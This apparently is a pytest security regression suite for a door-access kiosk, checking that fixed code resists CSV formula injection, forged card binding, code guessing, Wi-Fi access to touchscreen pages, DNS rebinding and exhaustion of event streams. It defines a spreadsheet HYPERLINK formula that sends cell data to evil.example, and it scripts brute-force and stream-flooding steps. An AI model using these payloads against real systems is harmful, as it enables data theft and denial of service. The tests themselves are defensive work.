"""The review's faults on the appliance's public surfaces, each played as an attacker would play it: at the
touchscreen, on the site's Wi-Fi, through what a walk-in types. Each test passes only on the fixed code."""

from __future__ import annotations

import csv
import datetime as dt
import html
import http.client
import http.cookiejar
import io
import re
import ssl
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient
from playwright.sync_api import Browser, Page, expect
from sqlalchemy import select

from access.ledger import slot_at
from access.models import Credential, Pass, Sale
from common.words import Slot
from halfday.sample import ALICE, NEW_BADGE
from kiosk.app import create_app
from kiosk.live import Live, StreamsFull
from kiosk.serve import KioskServer, LanServer
from kiosk.tls import ensure_certificate, fingerprint
from tests.support.browser import CHROMIUM, CHROMIUM_ARGS
from tests.support.door import DoorRig
from tests.support.kiosk import TEST_TUNING, record_taps, site_network_address
from tests.support.site import MANAGER_PASSWORD, Site
from tests.support.wait import wait_until

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'


def form_token(client: FlaskClient, url: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', client.get(url).text)
    assert found is not None, f"no form on {url}"
    return found.group(1)


def sign_in(client: FlaskClient, site: Site) -> None:
    site.set_password()
    token = form_token(client, "/admin/login")
    assert client.post("/admin/login", data={"csrf_token": token, "password": MANAGER_PASSWORD}).status_code == 302


def test_a_walk_ins_name_never_becomes_a_formula_in_the_managers_spreadsheet(site: Site, client: FlaskClient) -> None:
    token = form_token(client, "/buy/pass_halfday")
    bought = client.post(
        "/buy/pass_halfday",
        data={"csrf_token": token, "name": FORMULA, "email": "eve@example.org", "provider": "counter"},
    )
    assert bought.status_code == 302
    with site.db.read() as session:
        pass_id = session.scalars(select(Pass.id)).one()
    record_taps(site, [f"pass:{pass_id}"])  # the walk-in comes in: a half-day used, under that name
    sign_in(client, site)
    month = dt.datetime.now(site.config.site.tz).strftime("%Y-%m")
    for what in ("usage", "summary"):
        exported = client.get(f"/admin/exports/{what}/{month}.csv")
        assert exported.status_code == 200
        rows = list(csv.reader(io.StringIO(exported.text.removeprefix("\ufeff")), delimiter=";"))
        names = [row[rows[0].index("name")] for row in rows[1:]]
        assert f"'{FORMULA}" in names, names  # shown as text, never evaluated
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# ---------------------------------------------------------------------------------------------- 1. card linking


def test_linking_a_card_never_catches_a_members_badge(
    page: Page, site: Site, kiosk: KioskServer, door: DoorRig
) -> None:
    """A walk-in presses "link a card" and waits; a member arrives and badges meanwhile."""
    page.goto(kiosk.url + "/buy/pass_halfday")
    page.fill("#name", "Eve Attaquante")
    page.fill("#email", "eve@example.org")
    page.click("#bind-card")
    assert wait_until(lambda: door.daemon.enrol is not None, timeout=5)
    door.tap(ALICE)
    # Alice is decided on as usual: the door opens for her and her entry is recorded...
    assert wait_until(lambda: door.relay_states()[:2] == [False, True], timeout=5)
    entries = door.wait_events(1, "entry")
    assert (entries[0].data["uid"], entries[0].data["granted"]) == (ALICE, True)
    # ...and her badge goes to nobody's screen; the walk-in's request still waits for a card nobody holds.
    assert door.daemon.enrol is not None
    assert ALICE not in page.content()
    # Alice's badge gone from the reader first: a reader still checking that it left, slowed by a loaded machine,
    # would take the next card for hers.
    time.sleep(1.0)
    door.tap(NEW_BADGE, 0.5)
    expect(page.locator("#card-status")).to_have_text("Carte associée : elle vous ouvrira la porte.", timeout=10_000)
    assert NEW_BADGE not in page.content() and ALICE not in page.content()


def test_a_sale_binds_only_a_card_tapped_at_the_reader(site: Site, client: FlaskClient) -> None:
    """The sale's form once took the card's UID from the request: any badge could be bound without a tap."""
    for field, value in (("card", NEW_BADGE), ("card_token", "forged-token")):
        token = form_token(client, "/buy/pass_halfday")
        data = {"csrf_token": token, "name": "Eve", "email": "eve@example.org", "provider": "counter", field: value}
        assert client.post("/buy/pass_halfday", data=data).status_code == 302
    with site.db.read() as session:
        assert session.scalars(select(Credential).where(Credential.pass_id.is_not(None))).all() == []
        alice = session.scalars(select(Credential).where(Credential.value == ALICE)).one()
        assert alice.member_id is not None and alice.pass_id is None


# ---------------------------------------------------------------------------------------------- 3. guessing


def enter_code(client: FlaskClient, code: str) -> tuple[int, str]:
    token = form_token(client, "/code")
    answer = client.post("/code", data={"csrf_token": token, "code": code})
    return answer.status_code, answer.text


def buy_pass(client: FlaskClient, site: Site) -> str:
    token = form_token(client, "/buy/pass_halfday")
    data = {"csrf_token": token, "name": "Zoé", "email": "zoe@example.org", "provider": "counter"}
    assert client.post("/buy/pass_halfday", data=data).status_code == 302
    with site.db.read() as session:
        return session.scalars(select(Pass.code).order_by(Pass.created_at.desc())).first() or ""


def test_ones_own_valid_code_does_not_reset_a_guessers_count(app: Flask, site: Site) -> None:
    guesser = app.test_client()
    own_code = buy_pass(guesser, site)
    wrong = [f"{n:06d}" for n in range(100000, 100100) if f"{n:06d}" != own_code]
    statuses = []
    for round_ in range(3):
        for code in wrong[round_ * 4 : round_ * 4 + 4]:
            statuses.append(enter_code(guesser, code)[0])
        statuses.append(enter_code(guesser, own_code)[0])  # a success in between once wiped the count
    assert 429 in statuses, statuses  # the sixth failure within the window holds the guesser back
    assert enter_code(guesser, own_code)[0] == 429  # even with a good code, until the failures age out


def test_one_guesser_does_not_lock_out_the_next_visitor(app: Flask, site: Site) -> None:
    guesser, visitor = app.test_client(), app.test_client()
    visitor_code = buy_pass(visitor, site)
    while enter_code(guesser, "000000")[0] != 429:
        pass
    assert enter_code(visitor, visitor_code)[0] == 200  # the next person at the screen gets in
    # The guesser's own vouchers are counted apart from its codes.
    token = form_token(guesser, "/buy/pass_halfday")
    data = {
        "csrf_token": token,
        "name": "Eve",
        "email": "eve@example.org",
        "provider": "voucher",
        "voucher": "1K4P7RQDM2XA",
    }
    assert "Trop d" not in guesser.post("/buy/pass_halfday", data=data).text


def test_a_code_out_of_its_slot_answers_like_a_wrong_one(client: FlaskClient, site: Site) -> None:
    code = buy_pass(client, site)
    now = slot_at(dt.datetime.now(dt.UTC), site.config.site.rules)
    other = Slot.AFTERNOON if now.slot == Slot.MORNING else Slot.MORNING
    with site.db.write() as session:
        session.scalars(select(Pass).where(Pass.code == code)).one().slots = other.value
    _, expired = enter_code(client, code)
    _, wrong = enter_code(client, "999999" if code != "999999" else "999998")
    assert re.sub(r"csrf_token\" value=\"[^\"]+", "", expired) == re.sub(r"csrf_token\" value=\"[^\"]+", "", wrong)


# ---------------------------------------------------------------------------------------------- 6. unpaid passes


def counter_sale(client: FlaskClient, name: str) -> int:
    token = form_token(client, "/buy/pass_halfday")
    data = {"csrf_token": token, "name": name, "email": "eve@example.org", "provider": "counter"}
    return client.post("/buy/pass_halfday", data=data).status_code


def passes(site: Site) -> int:
    with site.db.read() as session:
        return len(session.scalars(select(Pass.id)).all())


def test_unpaid_counter_passes_are_capped_per_half_day(site: Site) -> None:
    """Anyone at the screen could make as many unpaid passes as they liked, each opening the door."""
    config = site.reconfigure({"kiosk": {"counter_unpaid_per_slot": 2}})
    app = create_app(config, connect_bus=False, tuning=TEST_TUNING)
    try:
        client = app.test_client()
        assert [counter_sale(client, f"Eve {n}") for n in range(4)] == [302, 302, 422, 422]
        assert passes(site) == 2
        with site.db.write() as session:  # the manager is paid for one: a place is free again
            sale = session.scalars(select(Sale)).first()
            assert sale is not None
            sale.paid = True
        assert counter_sale(client, "Zoé") == 302 and passes(site) == 3
    finally:
        app.extensions["halfday.kiosk"].close()


def test_counter_passes_are_sold_only_in_the_configured_hours(site: Site) -> None:
    today = dt.datetime.now(site.config.site.tz)
    other_day = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"][(today.weekday() + 1) % 7]
    config = site.reconfigure({"kiosk": {"counter_hours": [f"{other_day} 00:00-23:59"]}})
    app = create_app(config, connect_bus=False, tuning=TEST_TUNING)
    try:
        client = app.test_client()
        token = form_token(client, "/buy/pass_halfday")
        data = {"csrf_token": token, "name": "Eve", "email": "eve@example.org", "provider": "counter"}
        refused = client.post("/buy/pass_halfday", data=data)
        assert refused.status_code == 422 and "heures d&#39;ouverture de l&#39;accueil" in refused.text
        assert passes(site) == 0
    finally:
        app.extensions["halfday.kiosk"].close()


# ---------------------------------------------------------------------------------------------- 4. the site's network


class Guest:
    """A browser-less client on the site's Wi-Fi: HTTPS to the kiosk's site listener, cookies kept, any Host."""

    def __init__(self, url: str) -> None:
        self.url = url
        context = ssl.create_default_context()
        # The certificate is self-signed: what proves it is its fingerprint, compared below like the manager does.
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        self.cookies = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPSHandler(context=context), urllib.request.HTTPCookieProcessor(self.cookies)
        )

    def open(self, path: str, data: dict[str, str] | None = None, host: str | None = None) -> tuple[int, str]:
        body = urllib.parse.urlencode(data).encode() if data is not None else None
        request = urllib.request.Request(self.url + path, data=body, headers={"Host": host} if host else {})
        try:
            with self.opener.open(request, timeout=5) as answer:
                return answer.status, answer.read().decode()
        except urllib.error.HTTPError as refused:
            return refused.code, refused.read().decode()

    def token(self, path: str) -> str:
        status, text = self.open(path)
        found = re.search(r'name="csrf_token" value="([^"]+)"', text)
        assert status == 200 and found is not None, f"no form on {path}"
        return found.group(1)


@pytest.fixture
def on_the_lan(site: Site) -> Iterator[tuple[KioskServer, LanServer]]:
    """The kiosk as `halfday kiosk` serves it: the touchscreen's listener on loopback, the site's over HTTPS on
    this machine's network address."""
    address = site_network_address()
    config = site.reconfigure({"kiosk": {"lan_host": address}})
    files = ensure_certificate(config)
    app = create_app(config, connect_bus=False, tuning=TEST_TUNING)
    touchscreen = KioskServer(app).start()
    lan = LanServer(app, address, 0, files).start()
    yield touchscreen, lan
    touchscreen.stop()
    lan.stop()


def test_the_site_network_gets_the_admin_over_https_and_nothing_of_the_touchscreen(
    site: Site, on_the_lan: tuple[KioskServer, LanServer]
) -> None:
    """Once, anyone on the Wi-Fi could buy a door-opening counter pass, read a walk-in's code from /pass/<id> and
    follow every tap on /events; the manager's password crossed the network in clear."""
    touchscreen, lan = on_the_lan
    walk_in = touchscreen.app.test_client()  # at the touchscreen itself
    code = buy_pass(walk_in, site)
    with site.db.read() as session:
        pass_id = session.scalars(select(Pass.id)).one()
    site.set_password()
    guest = Guest(lan.url)
    token = guest.token("/admin/login")  # a session and its form token, from a page the network may see
    sale = {"csrf_token": token, "name": "Eve", "email": "eve@example.org", "provider": "counter"}
    for path, data in (
        ("/", None),
        ("/buy/pass_halfday", None),
        ("/buy/pass_halfday", sale),
        ("/buy/card", {"csrf_token": token}),
        (f"/pass/{pass_id}", None),
        ("/code", {"csrf_token": token, "code": code}),
        ("/events", None),
    ):
        status, text = guest.open(path, data)
        assert status == 403, (path, status)
        assert code not in text and "Cette page n'est disponible que sur l'écran de la borne" in html.unescape(text)
    assert passes(site) == 1  # nothing sold from the Wi-Fi
    # The admin and the wall display are the network's, over TLS, under the certificate the display names.
    peer = ssl.get_server_certificate((lan.host, lan.port))
    status, wall = guest.open("/display/")
    assert status == 200 and fingerprint(peer.encode()) in wall
    status, _ = guest.open("/admin/login", {"csrf_token": token, "password": MANAGER_PASSWORD})
    assert status == 200 and "Tableau de bord" in guest.open("/admin/")[1]
    assert [cookie.secure for cookie in guest.cookies] == [True]  # never sent back over plain HTTP
    # A page elsewhere whose name now resolves to the kiosk (DNS rebinding) gets nothing, on either listener.
    assert guest.open("/admin/", host="evil.example")[0] == 400
    plain = http.client.HTTPConnection("127.0.0.1", touchscreen.port, timeout=5)
    plain.request("GET", "/", headers={"Host": f"evil.example:{touchscreen.port}"})
    assert plain.getresponse().status == 400
    plain.close()


def test_a_rebinding_page_in_a_browser_reaches_nothing(
    browser: Browser, site: Site, on_the_lan: tuple[KioskServer, LanServer]
) -> None:
    """The same attack as a guest's browser plays it: a page of evil.example, its name now resolved to the kiosk."""
    _, lan = on_the_lan
    site.set_password()
    rebound = browser.browser_type.launch(
        executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, f"--host-resolver-rules=MAP evil.example {lan.host}"]
    )
    try:
        page = rebound.new_context(ignore_https_errors=True).new_page()
        answer = page.goto(f"https://evil.example:{lan.port}/admin/login")
        assert answer is not None and answer.status == 400
        assert page.locator("form").count() == 0
        answer = page.goto(f"{lan.url}/admin/login")  # by its address, the kiosk answers
        assert answer is not None and answer.status == 200
        expect(page.locator("#password")).to_be_visible()
    finally:
        rebound.close()


# ---------------------------------------------------------------------------------------------- 5. idle streams


def test_idle_event_streams_cannot_freeze_the_kiosk(kiosk: KioskServer) -> None:
    """Sixteen idle event streams once took every server thread: the touchscreen stopped answering."""
    host, port = "127.0.0.1", kiosk.port
    streams: list[http.client.HTTPConnection] = []
    answers: list[http.client.HTTPResponse] = []  # held: a response let go closes its socket, and its stream
    try:
        for _ in range(16):
            connection = http.client.HTTPConnection(host, port, timeout=5)
            streams.append(connection)
            connection.request("GET", "/events")
            answers.append(connection.getresponse())  # headers only: the stream stays open, idle
        statuses = [answer.status for answer in answers]
        assert statuses.count(200) == TEST_TUNING.streams_per_client and set(statuses) == {200, 503}
        page = http.client.HTTPConnection(host, port, timeout=2)
        streams.append(page)
        page.request("GET", "/")
        assert page.getresponse().status == 200  # the touchscreen still answers at once
    finally:
        for answer in answers:
            answer.close()
        for connection in streams:
            connection.close()
    # A stream given back is a stream free again (the server notices the browser left within a poll).
    assert wait_until(lambda: kiosk.kiosk.live.listeners == 0, timeout=5)


def test_streams_from_many_clients_stop_at_the_total() -> None:
    """Many screens at once (or one attacker with several addresses) still leave the server threads for pages."""
    live = Live(total=12, per_client=4)
    held = [live.subscribe(f"192.168.1.{n}") for n in range(3) for _ in range(4)]
    with pytest.raises(StreamsFull):
        live.subscribe("192.168.1.50")  # a newcomer: every stream is taken
    held.pop().close()
    held.append(live.subscribe("192.168.1.50"))  # one given back is one free again
    assert live.listeners == 12
